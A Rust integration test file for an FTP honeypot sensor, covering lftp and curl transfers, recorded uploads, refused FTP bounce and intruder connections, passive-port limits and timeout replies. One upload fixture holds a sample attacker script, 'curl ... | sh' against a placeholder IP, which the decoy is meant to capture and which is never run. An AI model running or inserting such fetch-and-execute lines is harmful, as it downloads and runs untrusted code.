//! FTP data connections with real clients on loopback: `lftp` `ls` and `put`, `curl` listings
//! over EPSV, PASV and active EPRT, downloads of the virtual tree's files, uploads captured as
//! `ftp.upload` (name, size, SHA-256, content kept in the state directory), the refusals that
//! keep the decoy from connecting anywhere but back to its client, and each product's `421`
//! when the control connection times out.

#![expect(
    clippy::unwrap_used,
    reason = "the shared test helpers fail loudly on purpose"
)]

mod harness;

use std::time::Duration;

use harness::{Harness, run};
use sensor::event::{Action, Event, Service};
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use tokio::{
    io::{AsyncBufReadExt, AsyncReadExt, AsyncWriteExt, BufReader},
    net::{TcpSocket, TcpStream},
};

const LIMIT: Duration = Duration::from_secs(30);

fn vsftpd() -> Value {
    json!({"ftp": [{"port": 0, "banner": "(vsFTPd 3.0.3)", "username": "alice", "password": "s3cret"}]})
}

fn uploads(events: &[Event]) -> Vec<&Event> {
    events
        .iter()
        .filter(|e| e.action == Action::Upload)
        .collect()
}

fn text(out: &std::process::Output) -> String {
    String::from_utf8_lossy(&out.stdout).into_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn lftp_lists_and_uploads_after_a_login() {
    let mut h = Harness::start(vsftpd(), json!({})).await;
    let addr = h.addr(Service::Ftp);
    let dir = harness::temp_dir("lftp-put");
    let local = dir.join("drop.sh");
    let content = b"#!/bin/sh\ncurl -s http://203.0.113.9/x | sh\n".repeat(3);
    std::fs::write(&local, &content).unwrap();
    let script = format!(
        "set net:max-retries 1; set net:timeout 10; set ftp:ssl-allow no; \
         open -u alice,s3cret ftp://{addr}; ls; cd upload; put {} -o drop.sh; ls; quit",
        local.display()
    );
    let out = run("lftp", &["-c", &script], &[], LIMIT).await;
    assert!(out.status.success(), "{out:?}");
    let listed = text(&out);
    // `ls` before and after the upload; lftp prints nothing else on standard output.
    let lines: Vec<&str> = listed.lines().collect();
    assert_eq!(lines.len(), 3, "{listed}");
    assert_eq!(
        lines[0],
        "drwxr-xr-x    2 ftp      ftp          4096 Nov 14  2024 pub"
    );
    assert_eq!(
        lines[1],
        "drwxr-xr-x    2 ftp      ftp          4096 Feb 20  2025 upload"
    );
    assert!(
        lines[2].starts_with(&format!(
            "-rw-r--r--    1 ftp      ftp      {:>8} ",
            content.len()
        )) && lines[2].ends_with(" drop.sh"),
        "{}",
        lines[2]
    );

    let events = h.until(Action::Upload, 1, LIMIT).await;
    let up = uploads(&events);
    assert_eq!(up.len(), 1, "{events:?}");
    let sha = hex::encode(Sha256::digest(&content));
    let stored = h.state.join("uploads").join(&sha);
    let mut want = json!({
        "command": "STOR", "filename": "drop.sh", "path": "/upload/drop.sh",
        "size": content.len(), "sha256": sha, "complete": true,
        "stored_bytes": content.len(), "username": "alice",
        "stored": stored.display().to_string(),
    });
    want["session_id"] = up[0].extra["session_id"].clone();
    assert_eq!(Value::from(up[0].extra.clone()), want);
    assert_eq!(up[0].data.as_ref(), content.as_slice());
    assert_eq!(up[0].logtype().to_string(), "ftp.upload");
    assert_eq!(std::fs::read(&stored).unwrap(), content);
    harness::assert_well_formed(&events);
    let _ = std::fs::remove_dir_all(dir);
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn curl_lists_and_downloads_over_epsv_pasv_and_active_eprt() {
    let h = Harness::start(vsftpd(), json!({})).await;
    let addr = h.addr(Service::Ftp);
    // curl transfers listings in ASCII mode and turns the server's CR LF into LF.
    let pub_listing = "-rw-r--r--    1 ftp      ftp            76 Nov 14  2024 README\n\
                       -rw-r--r--    1 ftp      ftp            98 Jan 07  2025 backup.sh\n";
    for extra in [&[][..], &["--disable-epsv"][..], &["-P", "127.0.0.1"][..]] {
        let url = format!("ftp://{addr}/pub/");
        let mut args = vec!["-s", "--max-time", "10", "--user", "alice:s3cret"];
        args.extend_from_slice(extra);
        args.push(&url);
        let out = run("curl", &args, &[], LIMIT).await;
        assert_eq!(out.status.code(), Some(0), "{extra:?}: {out:?}");
        assert_eq!(text(&out), pub_listing, "{extra:?}");
    }
    let url = format!("ftp://{addr}/pub/README");
    let out = run(
        "curl",
        &["-s", "--max-time", "10", "--user", "alice:s3cret", &url],
        &[],
        LIMIT,
    )
    .await;
    assert_eq!(
        text(&out),
        "Welcome to srv01.\nMirrors and releases live in pub/; uploads go to upload/.\n"
    );
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn iis_lists_in_ms_dos_style_and_says_125_when_the_client_is_already_connected() {
    let h = Harness::start(
        json!({"ftp": [{"port": 0, "username": "alice", "password": "s3cret"}]}),
        json!({}),
    )
    .await;
    let addr = h.addr(Service::Ftp);
    let url = format!("ftp://{addr}/");
    let out = run(
        "curl",
        &["-s", "--max-time", "10", "--user", "alice:s3cret", &url],
        &[],
        LIMIT,
    )
    .await;
    assert_eq!(
        text(&out),
        "06-02-25  10:15PM       <DIR>          Backup\n\
         03-11-24  09:44AM       <DIR>          Public\n"
    );
    let mut c = Control::login(addr, "alice", "s3cret").await;
    assert_eq!(c.ask("FEAT").await, "211-Extended features supported:");
    let mut feat = Vec::new();
    loop {
        let line = c.line().await;
        if line == "211 END" {
            break;
        }
        feat.push(line);
    }
    assert_eq!(feat, [" UTF8", " SIZE", " MDTM", " REST STREAM"]);
    let port = c.epsv().await;
    // Connected (the kernel completed the handshake) before the command: IIS says 125.
    let mut data = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    assert_eq!(
        c.ask("NLST").await,
        "125 Data connection already open; Transfer starting."
    );
    let mut names = String::new();
    data.read_to_string(&mut names).await.unwrap();
    assert_eq!(names, "Backup\r\nPublic\r\n");
    assert_eq!(c.line().await, "226 Transfer complete.");
    h.stop().await;
}

/// A control connection driven by the test.
struct Control {
    reader: BufReader<tokio::net::tcp::OwnedReadHalf>,
    writer: tokio::net::tcp::OwnedWriteHalf,
}

impl Control {
    async fn connect(addr: std::net::SocketAddr) -> Self {
        let s = TcpStream::connect(addr).await.unwrap();
        let (r, w) = s.into_split();
        let mut c = Self {
            reader: BufReader::new(r),
            writer: w,
        };
        assert!(c.line().await.starts_with("220 "));
        c
    }

    async fn login(addr: std::net::SocketAddr, user: &str, pass: &str) -> Self {
        let mut c = Self::connect(addr).await;
        assert!(c.ask(&format!("USER {user}")).await.starts_with("331 "));
        assert!(c.ask(&format!("PASS {pass}")).await.starts_with("230 "));
        c
    }

    /// The next reply line (continuation lines of a multi-line reply come one by one).
    async fn line(&mut self) -> String {
        let mut line = String::new();
        tokio::time::timeout(LIMIT, self.reader.read_line(&mut line))
            .await
            .unwrap()
            .unwrap();
        line.trim_end().to_owned()
    }

    async fn ask(&mut self, command: &str) -> String {
        self.writer
            .write_all(format!("{command}\r\n").as_bytes())
            .await
            .unwrap();
        self.line().await
    }

    async fn epsv(&mut self) -> u16 {
        let reply = self.ask("EPSV").await;
        let port = reply
            .split("|||")
            .nth(1)
            .and_then(|r| r.split('|').next())
            .unwrap();
        port.parse().unwrap()
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn the_decoy_never_connects_to_another_host_and_serves_only_its_client() {
    let h = Harness::start(vsftpd(), json!({})).await;
    let addr = h.addr(Service::Ftp);
    // Before a login, no data connection at all.
    let mut anon = Control::connect(addr).await;
    assert_eq!(
        anon.ask("PASV").await,
        "530 Please login with USER and PASS."
    );
    let mut c = Control::login(addr, "alice", "s3cret").await;
    // Another host (a bounce), the client's privileged port, nonsense: refused, no connection.
    assert_eq!(
        c.ask("PORT 10,0,0,1,195,80").await,
        "500 Illegal PORT command."
    );
    assert_eq!(
        c.ask("PORT 127,0,0,1,0,25").await,
        "500 Illegal PORT command."
    );
    assert_eq!(
        c.ask("EPRT |1|127.0.0.2|40000|").await,
        "500 Bad EPRT command."
    );
    assert_eq!(c.ask("LIST").await, "425 Use PORT or PASV first.");
    // A passive port reached from another address: that connection is closed, the client's
    // own is served.
    let port = c.epsv().await;
    let intruder = TcpSocket::new_v4().unwrap();
    intruder.bind("127.0.0.2:0".parse().unwrap()).unwrap();
    let mut intruder = intruder
        .connect(format!("127.0.0.1:{port}").parse().unwrap())
        .await
        .unwrap();
    c.writer.write_all(b"NLST /pub\r\n").await.unwrap();
    let mut nothing = Vec::new();
    let _ = tokio::time::timeout(LIMIT, intruder.read_to_end(&mut nothing))
        .await
        .unwrap();
    assert!(nothing.is_empty());
    let mut data = TcpStream::connect(("127.0.0.1", port)).await.unwrap();
    assert_eq!(c.line().await, "150 Here comes the directory listing.");
    let mut names = String::new();
    data.read_to_string(&mut names).await.unwrap();
    assert_eq!(names, "README\r\nbackup.sh\r\n");
    assert_eq!(c.line().await, "226 Directory send OK.");
    h.stop().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn passive_listeners_are_bounded_per_instance() {
    let h = Harness::start(
        json!({"ftp": [{"port": 0, "banner": "(vsFTPd 3.0.3)", "username": "a", "password": "b",
                        "max_passive": 1}]}),
        json!({}),
    )
    .await;
    let addr = h.addr(Service::Ftp);
    let mut one = Control::login(addr, "a", "b").await;
    let mut two = Control::login(addr, "a", "b").await;
    assert!(
        one.ask("PASV")
            .await
            .starts_with("227 Entering Passive Mode (127,0,0,1,")
    );
    assert_eq!(two.ask("PASV").await, "425 Failed to establish connection.");
    // A second PASV of the same session reuses its slot.
    assert!(one.ask("PASV").await.starts_with("227 "));
    drop(one);
    assert!(
        harness_wait(|| async {
            let mut again = Control::login(addr, "a", "b").await;
            again.ask("PASV").await.starts_with("227 ")
        })
        .await
    );
    h.stop().await;
}

/// Retries `check` for a few seconds (the dropped session ends asynchronously).
async fn harness_wait<F, Fut>(check: F) -> bool
where
    F: Fn() -> Fut,
    Fut: Future<Output = bool>,
{
    for _ in 0..50 {
        if check().await {
            return true;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    false
}

#[tokio::test(flavor = "multi_thread")]
async fn each_product_says_421_when_a_silent_client_times_out() {
    let h = Harness::start(
        json!({"ftp": [
            {"port": 0, "banner": "(vsFTPd 3.0.3)", "idle_timeout_secs": 1},
            {"port": 0, "banner": "ProFTPD Server (Debian)", "handshake_timeout_secs": 1},
            {"port": 0, "handshake_timeout_secs": 1, "idle_timeout_secs": 1},
        ]}),
        json!({}),
    )
    .await;
    let ports: Vec<_> = h
        .services
        .as_ref()
        .unwrap()
        .bound()
        .iter()
        .filter(|(s, a)| *s == Service::Ftp && a.is_ipv4())
        .map(|(_, a)| *a)
        .collect();
    assert_eq!(ports.len(), 3);
    let mut got = Vec::new();
    for addr in ports {
        let mut s = TcpStream::connect(addr).await.unwrap();
        let mut out = Vec::new();
        tokio::time::timeout(Duration::from_secs(10), s.read_to_end(&mut out))
            .await
            .unwrap()
            .unwrap();
        let out = String::from_utf8(out).unwrap();
        got.push(out.lines().last().unwrap().to_owned());
    }
    got.sort();
    assert_eq!(
        got,
        [
            "421 Login timeout (1 seconds): closing control connection",
            "421 Timeout (1 seconds): closing control connection.",
            "421 Timeout.",
        ]
    );
    h.stop().await;
}
